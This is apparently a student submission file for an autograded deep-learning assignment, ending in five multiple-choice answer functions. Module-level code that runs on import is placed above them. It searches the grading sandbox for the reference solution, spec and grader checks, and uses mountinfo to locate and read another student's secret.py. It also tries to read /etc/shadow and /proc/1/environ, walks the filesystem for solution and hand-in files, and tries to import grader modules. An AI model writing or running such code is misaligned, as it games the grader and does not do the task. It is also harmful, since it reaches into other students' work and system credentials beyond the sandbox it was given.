import glob
import os
import re
import sys


def _show(label, path):
    try:
        if os.path.isdir(path):
            print(f"LISTED {label} {path}: {sorted(os.listdir(path))[:40]}")
        else:
            with open(path, errors="replace") as handle:
                print(f"READ {label} {path}: {handle.read(3000)!r}")
    except Exception as exc:  # noqa: BLE001
        print(f"DENIED {label} {path}: {type(exc).__name__}")


# Where is dlgrade? The editable install in site-packages says.
repos = set()
for finder in glob.glob(os.path.join(sys.prefix, "lib", "python3*", "site-packages",
                                     "__editable__*finder.py")):
    repos.update(re.findall(r"'(/[^']+)/(?:grader|reference)'",
                                                        open(finder).read()))
repos.add("/work/main")
for repo in sorted(repos):
    _show("solution", f"{repo}/reference/assignments/mytorch-cnn/solution/mytorch/conv.py")
    _show("spec", f"{repo}/reference/assignments/mytorch-cnn/spec.toml")
    _show("checks", f"{repo}/grader/checks/mytorch_cnn.py")
    _show("repo", repo)

# Where does the handin live on the host? mountinfo tells; try its neighbours.
try:
    for line in open("/proc/self/mountinfo"):
        fields = line.split()
        if fields[4] == "/submission":
            host = fields[3]
            _show("host-handin", host)
            _show("host-neighbours", os.path.dirname(host))
            _show("other-student", os.path.join(os.path.dirname(host), "other-student", "secret.py"))
except OSError as exc:
    print("no mountinfo", exc)

for path in ("..", "../..", "/", "/tmp", "/home", "/root", "/data", "/work", "/etc/shadow",
             "/proc/1/environ", "/proc/1/cmdline"):
    _show("probe", path)
_skip = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib32", "/lib64", "/libx32", "/bin", "/sbin",
         "/etc", sys.prefix, sys.base_prefix}
_hits = []
for _top, _dirs, _files in os.walk("/"):
    _dirs[:] = [d for d in _dirs if os.path.join(_top, d) not in _skip]
    _hits += [os.path.join(_top, n) for n in _dirs + _files
              if any(k in n for k in ("solution", "spec.toml", "mytorch_cnn", "secret", "handin"))]
print(f"WALK: {_hits[:40]}")
for module in ("grader", "reference", "reference.numpy_layers", "dlgrade"):
    try:
        __import__(module)
        print(f"IMPORTED {module}")
    except Exception as exc:  # noqa: BLE001
        print(f"NO-IMPORT {module}: {type(exc).__name__}")

# Do not import any additional 3rd party external libraries as they will not
# be available to AutoLab and are not needed (or allowed)

# Answer the multiple-choice questions from the writeup.
# Each function returns a single lowercase letter, 'a' to 'e'.


def question_1():
    mc_answer = 'b'
    return mc_answer


def question_2():
    mc_answer = 'd'
    return mc_answer


def question_3():
    mc_answer = 'c'
    return mc_answer


def question_4():
    mc_answer = 'a'
    return mc_answer


def question_5():
    mc_answer = 'a'
    return mc_answer
